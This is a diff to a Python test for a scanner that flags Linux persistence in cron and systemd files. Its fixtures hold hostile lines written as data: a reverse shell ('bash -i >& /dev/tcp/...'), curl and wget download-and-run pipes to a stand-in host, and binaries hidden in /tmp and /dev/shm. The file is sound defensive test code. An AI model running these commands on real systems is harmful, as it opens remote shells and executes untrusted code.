@@ -143,7 +143,7 @@ def sudoers(tmp):
 @test
 def cron_and_systemd(tmp):
     f = scan_config(tmp, cfg(), files={
-        'etc/cron.d/update': b'SHELL=/bin/sh\n*/5 * * * * root curl -s http://x.example/u.sh | sh\n',
+        'etc/cron.d/update': b'SHELL=/bin/sh\n*/5 * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
         'var/spool/cron/crontabs/root': b'@reboot /tmp/.x/kworker\n',
         'etc/systemd/system/sys-update.service': b'[Service]\nExecStart=/dev/shm/.s/agent\n'})
     got = only(f, 'config.persistence')
@@ -162,7 +162,9 @@ def cron_and_systemd(tmp):
     eq(rules(f), ['config.systemd_unit'], str(f))
     f = scan_config(tmp, cfg(), files={
         'etc/crontab': b'SHELL=/bin/sh\n* * * * * root /var/tmp/.ICE-unix/.x/run >/dev/null 2>&1\n',
-        'etc/cron.hourly/upd': b'#!/bin/sh\ncd /tmp && wget -q http://x.example/a -O- | sh\n'})
+        'etc/cron.hourly/upd': b'#!/bin/sh\ncd /tmp && nohup /dev/shm/.x/upd &\n',
+        # download-and-run in cron is the dropper detector's, not repeated here
+        'etc/cron.d/fetch': b'* * * * * root curl -s http://x.example/a | sh\n'})
     eq(sorted((x['path'], x['line']) for x in only(f, 'config.persistence')),
        [('etc/cron.hourly/upd', 2), ('etc/crontab', 2)], str(f))
 
